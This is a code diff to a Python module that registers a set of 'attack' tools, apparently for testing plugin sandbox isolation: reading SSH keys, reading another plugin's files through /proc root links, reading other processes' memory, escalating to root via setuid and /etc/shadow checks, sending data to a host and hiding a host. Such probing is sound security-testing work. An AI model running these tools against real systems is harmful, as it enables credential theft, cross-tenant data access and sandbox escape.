@@ -59,9 +59,13 @@ def read_ssh_keys(path: str) -> Report:
     return report("read_ssh_keys", *_read_all((os.path.join(path, ".ssh"), path)))
 
 
-def read_peer_data(path: str) -> Report:
-    """Read another plugin's folder or file, directly and through our own /proc links."""
-    return report("read_peer_data", *_read_all((path, f"/proc/self/root{path}", f"/proc/1/root{path}")))
+def read_peer_data(path: str, restless_s: int = 0) -> Report:
+    """Read another plugin's folder or file, directly and through our own /proc links; open files without a rest then."""
+    found = _read_all((path, f"/proc/self/root{path}", f"/proc/1/root{path}"))
+    for _ in range(restless_s * 50):
+        os.close(os.open(sys.executable, os.O_RDONLY))
+        threading.Event().wait(0.02)
+    return report("read_peer_data", *found)
 
 
 def read_core_memory(pid: int = 0) -> Report:
@@ -376,11 +380,10 @@ def _mount(libc: ctypes.CDLL) -> None:
 
 
 def _become_root() -> None:
-    if os.geteuid() == 0 and os.access("/etc/shadow", os.R_OK):
-        return
-    if os.geteuid() == 0:
+    if os.geteuid() != 0:
+        os.setuid(0)
+    elif not os.access("/etc/shadow", os.R_OK):
         raise OSError(errno.EPERM, "root in name only")
-    os.setuid(0)
 
 
 def _open_for_writing(path: str) -> None:
@@ -392,11 +395,9 @@ def _first_block_device() -> None:
     last: OSError = OSError(errno.ENOENT, "no block device seen")
     for name in names:
         try:
-            os.close(os.open(f"/dev/{name}", os.O_RDONLY))
+            return os.close(os.open(f"/dev/{name}", os.O_RDONLY))
         except OSError as error:
             last = error
-        else:
-            return
     raise last
 
 
@@ -425,7 +426,7 @@ def _why(error: Exception) -> str:
 # What each tool does, what it takes (JSON Schema types; `?` marks what may be left out), and what it says.
 ATTACKS: dict[str, tuple[Callable[..., Report], dict[str, str], str]] = {
     "read_ssh_keys": (read_ssh_keys, {"path": "string"}, "Reads SSH keys below a home folder."),
-    "read_peer_data": (read_peer_data, {"path": "string"}, "Reads another plugin's data."),
+    "read_peer_data": (read_peer_data, {"path": "string", "restless_s?": "integer"}, "Reads another's data."),
     "read_core_memory": (read_core_memory, {"pid?": "integer"}, "Reads the memory of other processes."),
     "phone_home": (phone_home, {"host": "string", "port": "integer"}, "Sends data to a host."),
     "front_host": (front_host, {"host": "string", "port": "integer", "name": "string"}, "Hides a host."),
